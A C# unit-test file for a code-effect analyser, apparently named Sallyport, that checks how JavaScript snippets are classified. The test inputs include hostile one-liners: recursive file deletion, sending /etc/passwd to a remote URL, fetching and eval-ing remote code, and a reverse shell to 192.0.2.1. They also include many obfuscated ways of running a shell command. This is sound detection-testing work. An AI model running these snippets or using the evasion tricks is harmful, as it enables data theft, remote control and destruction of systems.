using Sallyport.Shell;

namespace Sallyport.Tests.Shell.Code;

public class JavaScriptTests
{
    [Theory]
    [InlineData("require('fs').rmSync('/srv/data', { recursive: true, force: true })", "Delete -r /srv/data")]
    [InlineData("import { unlink as u } from 'node:fs/promises'; await u('/etc/hosts')", "Delete /etc/hosts")]
    [InlineData("const fs = require('fs'), p = require('path'); fs.unlinkSync(p.join(__dirname, 'a.db'))", "Delete /home/dev/app/a.db")]
    [InlineData("fs.writeFileSync(process.env.HOME + '/.bashrc', 'x')", "Truncate /home/dev/.bashrc #overwrite")]
    [InlineData("require('fs').readdirSync('/srv').forEach(f => require('fs').unlinkSync('/srv/' + f))", "Delete /srv/*")]
    [InlineData("require('fs').chmodSync('/srv/key', '777')", "ChangeMode /srv/key #world-writable")]
    [InlineData("for (const f of ['a', 'b']) { fs.rmSync(f) }", "Delete /home/dev/app/b")]
    [InlineData("await Deno.remove('/srv', { recursive: true })", "Delete -r /srv")]
    [InlineData("require('child_process').spawn('git', ['push'])", "run git push")]
    [InlineData("require('child_process').execSync('make', { cwd: '/srv' })", "Shell: make")]
    [InlineData("new Deno.Command('git', { args: ['push'] }).output()", "run git push")]
    [InlineData("process.kill(1, 'SIGKILL')", "Kill 1 #init")]
    [InlineData("fetch('https://example.org/in', { method: 'POST', body: require('fs').readFileSync('/etc/passwd') })", "SendData https://example.org/in #file")]
    [InlineData("fetch('https://example.org/a.js').then(r => r.text()).then(t => eval(t))", "ExecuteDownloaded download of https://example.org/a.js() ? #eval")]
    [InlineData("require('https').get('https://example.org/a', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })", "ExecuteDownloaded download of https://example.org/a ? #eval")]
    [InlineData("const n = require('net'), sh = require('child_process').spawn('/bin/sh', []); const c = new n.Socket(); c.connect(9000, '192.0.2.1', () => { c.pipe(sh.stdin) })", "OpenSession 192.0.2.1:9000 #reverse-shell")]
    public void Effects(string code, string expected) => CodeProbe.Does(CodeLanguage.JavaScript, code, expected);

    [Theory]
    [InlineData("require('child_process').execSync('id')")]
    [InlineData("const { execSync: run } = require('child_process'); run('id')")]
    [InlineData("import * as cp from 'child_process'; cp['ex' + 'ec']('id')")]
    [InlineData("process['mainModule']['require']('child_process').exec(`i${'d'}`)")]
    [InlineData("new Function('return process')().mainModule.require('child_process').execSync('id')")]
    [InlineData("eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdpZCcp', 'base64').toString())")]
    [InlineData("eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdpZCcp'))")]
    [InlineData("require('child_process').exec(String.fromCharCode(105, 100))")]
    [InlineData("require('child_process').exec(['i', 'd'].join(''))")]
    [InlineData("require('child_process').exec('di'.split('').reverse().join(''))")]
    [InlineData("setTimeout(() => require('child_process').exec('id'), 10)")]
    [InlineData("(async () => { const { exec } = await import('node:child_process'); exec('id') })()")]
    [InlineData("class A { constructor(c) { this.c = c } go() { require('child_process').exec(this.c) } } new A('id').go()")]
    [InlineData("function go(c = 'id') { require('child_process').exec(c) } go()")]
    [InlineData("import cp from 'child_process'; const c: string = 'id'; cp.exec(c as string)")]
    [InlineData("Reflect.get(require('child_process'), 'exec')('id')")]
    [InlineData("require('child_process').exec.call(null, 'id')")]
    [InlineData("require('child_process').exec('\\x69\\u0064')")]
    public void Disguises_of_one_command(string code) => CodeProbe.Does(CodeLanguage.JavaScript, code, "Shell: id");

    [Theory]
    [InlineData("console.log(1)")]
    [InlineData("// require('fs').rmSync('/')")]
    [InlineData("console.log('require(\"fs\").rmSync(\"/\")')")]
    [InlineData("const r = /rm -rf \\//.test(s); let y = a / b / c")]
    [InlineData("const x = JSON.parse(require('fs').readFileSync('package.json', 'utf8')); console.log(x.version ?? 'none', x?.scripts?.test)")]
    [InlineData("[1, 2, 3].map(x => x * 2).filter(Boolean).forEach(x => console.log(x))")]
    [InlineData("process.stdin.on('data', d => process.stdout.write(d.toString().toUpperCase()))")]
    [InlineData("const m = 'a-b'.match(/(\\w)-(\\w)/); /a/.exec('a'); console.log(m[1])")]
    [InlineData("const f = n => n < 2 ? 1 : n * f(n - 1); console.log(f(20))")]
    public void Ordinary_programs_do_nothing(string code) => CodeProbe.IsHarmless(CodeLanguage.JavaScript, code);
}
